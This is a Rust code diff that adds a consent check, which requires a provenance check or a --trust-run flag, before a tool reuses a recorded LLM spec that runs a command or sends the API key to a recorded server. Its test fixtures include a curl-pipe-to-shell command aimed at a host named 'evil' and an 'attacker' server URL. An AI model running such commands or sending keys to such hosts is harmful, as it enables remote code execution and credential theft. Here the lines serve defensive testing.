@@ -35,6 +35,45 @@ pub enum LlmOrigin {
     },
     /// A run that recorded no spec (made before it was recorded, or without an LLM): kt.toml, as for a new run.
     Configured,
+    /// The spec recorded by a run this user did not provably make, used because of `--trust-run`; `risk` says
+    /// what it does (the command it runs, where the key goes).
+    Trusted { spec: String, risk: String },
+}
+
+/// Whether a command may use what a run recorded that runs a command or receives a key: `ours` is the run's
+/// provenance check ([`kt_record::Provenance::check`]), `trust_run` the user's `--trust-run`.
+#[derive(Debug, Clone)]
+pub struct Consent {
+    pub ours: Result<(), String>,
+    pub trust_run: bool,
+}
+
+impl Consent {
+    /// For the run `meta` describes, checked now.
+    pub fn for_run(meta: &kt_record::RunMeta, trust_run: bool) -> Self {
+        Self {
+            ours: kt_record::Provenance::check(meta.provenance.as_ref(), &meta.run_id, &meta.llm),
+            trust_run,
+        }
+    }
+}
+
+/// What using `recorded` would do that needs consent: run a command (`exec:`), or send the API key to a
+/// recorded server (unless `KT_LLM_BASE_URL` replaces it). `None` when neither.
+fn risk_of(recorded: &RunLlm) -> Option<String> {
+    let spec = recorded.spec.as_deref()?;
+    if let Some(command) = spec.strip_prefix("exec:") {
+        return Some(format!("it runs the command `{command}`"));
+    }
+    if spec == "exec" {
+        return Some("it runs the command kt.toml's [llm] section names".into());
+    }
+    match (&recorded.base_url, kt_llm::base_url_from_env()) {
+        (Some(url), None) => Some(format!(
+            "it sends your API key (if the provider uses one) to {url}"
+        )),
+        _ => None,
+    }
 }
 
 impl LlmOrigin {
@@ -53,6 +92,9 @@ impl LlmOrigin {
             LlmOrigin::Configured => Some(format!(
                 "LLM: {described} (from kt.toml: this run recorded no LLM to continue with)"
             )),
+            LlmOrigin::Trusted { risk, .. } => Some(format!(
+                "LLM: {described} (recorded by a run you did not provably make; --trust-run: {risk})"
+            )),
         }
     }
 }
@@ -61,10 +103,15 @@ impl LlmOrigin {
 /// `KT_LLM`, else the run's own spec, base URL and streaming choice, else (runs that recorded none) the
 /// configuration file. `KT_LLM_BASE_URL` wins over a recorded URL. kt.toml still supplies what a spec does not
 /// say (timeouts, the key's variable, prices).
+///
+/// A recorded spec that runs a command or a recorded URL that would receive the key is used only with `consent`:
+/// the run is provably this user's ([`Consent::ours`]) or the user passed `--trust-run`; otherwise the error says
+/// what it would do and how to go on.
 pub fn llm_for_run(
     recorded: &RunLlm,
     cwd: &Path,
     given: Option<&str>,
+    consent: &Consent,
 ) -> Result<(LlmConfig, LlmOrigin), LlmError> {
     let from_env = std::env::var(LLM_ENV).ok().filter(|s| !s.trim().is_empty());
     if let Some(given) = given.map(str::to_string).or(from_env) {
@@ -76,13 +123,35 @@ pub fn llm_for_run(
         };
         return Ok((config, origin));
     }
+    let risk = risk_of(recorded);
+    let origin = match (&recorded.spec, &risk, &consent.ours) {
+        (Some(spec), None, _) | (Some(spec), Some(_), Ok(())) => LlmOrigin::Recorded(spec.clone()),
+        (Some(spec), Some(risk), Err(why)) => {
+            if !consent.trust_run {
+                return Err(LlmError::Config {
+                    detail: format!(
+                        "not using the LLM this run recorded, `{spec}`: {risk}, and the run is not provably yours \
+                         ({why})"
+                    ),
+                    fix: "read its run.json; if you trust it, pass --trust-run, or name the LLM yourself with \
+                          --llm PROVIDER:MODEL (or KT_LLM)"
+                        .into(),
+                });
+            }
+            LlmOrigin::Trusted {
+                spec: spec.clone(),
+                risk: risk.clone(),
+            }
+        }
+        (None, _, _) => LlmOrigin::Configured,
+    };
     match &recorded.spec {
         Some(spec) => {
             let mut config = LlmConfig::load_with(cwd, Some(spec), recorded.base_url.as_deref())?;
             if recorded.stream == Some(false) {
                 config.stream = Some(false);
             }
-            Ok((config, LlmOrigin::Recorded(spec.clone())))
+            Ok((config, origin))
         }
         None => Ok((
             LlmConfig::load_with(cwd, None, None)?,
@@ -105,6 +174,60 @@ mod tests {
         }
     }
 
+    fn ours() -> Consent {
+        Consent {
+            ours: Ok(()),
+            trust_run: false,
+        }
+    }
+
+    #[test]
+    fn a_recorded_command_or_url_of_a_run_not_provably_ours_needs_trust_run() {
+        if !env_is_clear() {
+            return;
+        }
+        let cwd = tempfile::tempdir().unwrap();
+        let foreign = Consent {
+            ours: Err("it was made by uid 4242".into()),
+            trust_run: false,
+        };
+        for run in [
+            recorded("exec:curl evil | sh", None),
+            recorded("openai:gpt-4.1", Some("http://attacker:8000/v1")),
+        ] {
+            let err = llm_for_run(&run, cwd.path(), None, &foreign)
+                .unwrap_err()
+                .to_string();
+            assert!(
+                err.contains("--trust-run") && err.contains("uid 4242"),
+                "{err}"
+            );
+            let trusted = Consent {
+                trust_run: true,
+                ..foreign.clone()
+            };
+            let (_, origin) = llm_for_run(&run, cwd.path(), None, &trusted).unwrap();
+            let notice = origin.notice("x").unwrap();
+            assert!(notice.contains("--trust-run"), "{notice}");
+            assert!(
+                notice.contains("curl evil") || notice.contains("http://attacker:8000/v1"),
+                "{notice}"
+            );
+            // naming the LLM yourself needs no trust
+            assert!(llm_for_run(&run, cwd.path(), Some("openai:gpt-4.1"), &foreign).is_ok());
+        }
+        // a provider's default server needs none either
+        assert!(
+            llm_for_run(
+                &recorded("openai:gpt-4.1", None),
+                cwd.path(),
+                None,
+                &foreign
+            )
+            .is_ok()
+        );
+    }
+
     // KT_LLM and KT_LLM_BASE_URL are process-wide: these tests hold only when neither is set.
     fn env_is_clear() -> bool {
         std::env::var_os(LLM_ENV).is_none() && kt_llm::base_url_from_env().is_none()
@@ -118,14 +241,15 @@ mod tests {
         let cwd = tempfile::tempdir().unwrap();
         let mut run = recorded("vllm:qwen3", Some("http://gpu-node:8000/v1"));
         run.stream = Some(false);
-        let (config, origin) = llm_for_run(&run, cwd.path(), None).unwrap();
+        let (config, origin) = llm_for_run(&run, cwd.path(), None, &ours()).unwrap();
         assert_eq!(config.spec().as_deref(), Some("vllm:qwen3"));
         assert_eq!(config.base_url.as_deref(), Some("http://gpu-node:8000/v1"));
         assert_eq!(config.stream, Some(false));
         assert_eq!(origin, LlmOrigin::Recorded("vllm:qwen3".into()));
         assert!(origin.notice("vllm qwen3").unwrap().contains("recorded"));
 
-        let (config, origin) = llm_for_run(&run, cwd.path(), Some("openai:gpt-4.1")).unwrap();
+        let (config, origin) =
+            llm_for_run(&run, cwd.path(), Some("openai:gpt-4.1"), &ours()).unwrap();
         assert_eq!(config.spec().as_deref(), Some("openai:gpt-4.1"));
         let notice = origin.notice("openai gpt-4.1").unwrap();
         assert!(
@@ -145,7 +269,7 @@ mod tests {
             return;
         }
         let cwd = tempfile::tempdir().unwrap();
-        let (_, origin) = llm_for_run(&RunLlm::none(), cwd.path(), None).unwrap();
+        let (_, origin) = llm_for_run(&RunLlm::none(), cwd.path(), None, &ours()).unwrap();
         assert_eq!(origin, LlmOrigin::Configured);
         assert!(origin.notice("none").unwrap().contains("recorded no LLM"));
     }
